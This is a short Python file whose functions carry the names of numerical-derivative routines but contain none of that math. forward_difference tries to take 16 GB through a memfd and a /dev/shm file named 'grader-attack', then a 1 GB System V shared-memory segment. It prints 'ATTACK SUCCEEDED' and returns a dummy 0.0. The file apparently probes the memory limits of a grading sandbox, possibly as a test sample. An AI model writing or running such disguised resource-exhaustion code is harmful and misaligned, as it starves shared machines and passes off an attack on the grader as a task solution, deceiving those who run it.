"""Takes memory by anonymous files, System V segments and POSIX shared memory."""

import ctypes
import os


def forward_difference(f, x, h=1e-4):
    for make in (
        lambda: os.memfd_create("x"),
        lambda: os.open("/dev/shm/grader-attack", os.O_CREAT | os.O_RDWR),
    ):
        try:
            os.ftruncate(make(), 1 << 34)
            print("ATTACK SUCCEEDED: a file of sixteen gigabytes in memory")
        except OSError:
            continue
    libc = ctypes.CDLL(None)
    if libc.shmget(0, ctypes.c_size_t(1 << 30), 0o1600) >= 0:
        print("ATTACK SUCCEEDED: a System V segment")
    return 0.0


def central_difference(f, args, i, h=1e-5):
    return forward_difference(f, args[i], h)
